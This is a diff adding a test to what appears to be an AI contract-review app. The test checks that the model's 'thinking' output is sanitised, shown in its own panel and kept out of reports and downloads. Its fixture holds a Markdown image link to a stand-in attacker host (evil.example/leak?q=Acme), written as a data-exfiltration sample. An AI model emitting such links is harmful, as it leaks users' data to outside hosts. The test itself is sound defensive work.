@@ -306,3 +306,28 @@ def test_pasting_more_than_the_cap_says_so_and_reviews_nothing(env, monkeypatch)
     assert "60 characters; the limit is 50" in all_text(at).replace("\\", "")  # Markdown escapes
     at.button(key="review").click().run()
     assert not records(at) and env.streams() == []
+
+
+def test_thinking_is_folded_apart_sanitised_and_out_of_the_report_and_downloads(env):
+    """Thinking is model output: drawn through the sanitiser like the report (a remote image in it
+    must not load), folded above the report, and never in the report or its downloads."""
+    hostile = "Let me think. ![x](https://evil.example/leak?q=Acme) then clause 12.1."
+    env.push(
+        Script(thinking=[hostile[:20], hostile[20:]], tokens=["## Overall risk: HIGH\n", "ok"])
+    )
+    at = paste_and_review(app())
+    (record,) = records(at)
+    assert record.thinking == hostile and record.report == "## Overall risk: HIGH\nok"
+    (panel,) = [e for e in at.expander if e.label.startswith("Thought")]
+    shown = "\n".join(m.value for m in panel.markdown)
+    assert "![" not in shown and "image not loaded" in shown
+    assert shown.strip() == safe_markdown(hostile).strip()
+    assert all("Let me think" not in m.value for m in at.markdown if m not in panel.markdown)
+    metrics = {m.label: m.value for m in at.metric}
+    assert metrics["Time to first answer token"] != "—" and metrics["Thinking tokens"].startswith(
+        "~"
+    )
+    table = at.dataframe[0].value
+    assert table["thinking_tokens"].iloc[0].startswith("~")
+    download = at.get("download_button")[0]
+    assert "Let me think" not in str(download.proto)
